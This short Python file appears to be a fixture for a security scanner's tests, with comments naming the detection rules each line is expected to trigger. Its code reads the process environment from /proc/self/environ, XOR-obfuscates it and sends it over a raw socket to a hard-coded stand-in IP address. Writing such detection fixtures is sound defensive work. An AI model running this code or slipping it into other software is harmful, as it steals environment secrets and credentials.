import socket

data = open("/proc/self/environ", "rb").read()
connection = socket.create_connection(("203.0.113.9", 8443)) # expect: data-exfiltration/raw-socket, url-analyzer/raw-ip
connection.sendall(bytes(b ^ 0x2A for b in data)) # expect: data-exfiltration/env-dump, url-analyzer/raw-ip
